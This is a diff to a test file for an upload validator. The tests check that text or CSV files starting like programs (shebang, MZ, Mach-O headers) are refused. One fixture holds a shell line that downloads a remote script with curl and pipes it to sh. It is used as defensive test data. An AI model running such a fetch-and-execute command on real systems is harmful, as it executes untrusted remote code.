@@ -57,12 +57,15 @@ describe('checkFile', () => {
     expect(await refusal('documento-oferta', 'txt', SAMPLES.plainZip)).toEqual(no);
   });
 
-  it('a script with an interpreter line is refused as txt or csv, with or without a byte-order mark', async () => {
+  it('text that starts like a program (#!, MZ, Mach-O) is refused as txt or csv, with or without a byte-order mark', async () => {
     const no = { code: 46, mensaje: 'Este tipo de fichero no esta permitido' };
     const script = Buffer.from('#!/bin/sh\ncurl https://example.com/x | sh\n');
     expect(await refusal('documento-oferta', 'txt', script)).toEqual(no);
     expect(await refusal('documento-alumno', 'csv', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), script]))).toEqual(no);
     expect(await checkFile('documento-alumno', 'txt', Buffer.from('# Notas\n#!no es la primera línea\n'))).toBe('text/plain');
+    // Too short for file-type to name, and every byte printable in Windows-1252: a Mach-O universal header, "MZ" + text.
+    expect(await refusal('documento-alumno', 'csv', Buffer.from([0xca, 0xfe, 0xba, 0xbe]))).toEqual(no);
+    expect(await refusal('documento-alumno', 'txt', Buffer.from('MZ hola'))).toEqual(no);
   });
 
   it('each use has its own list: extensions outside it are refused whatever the content', async () => {
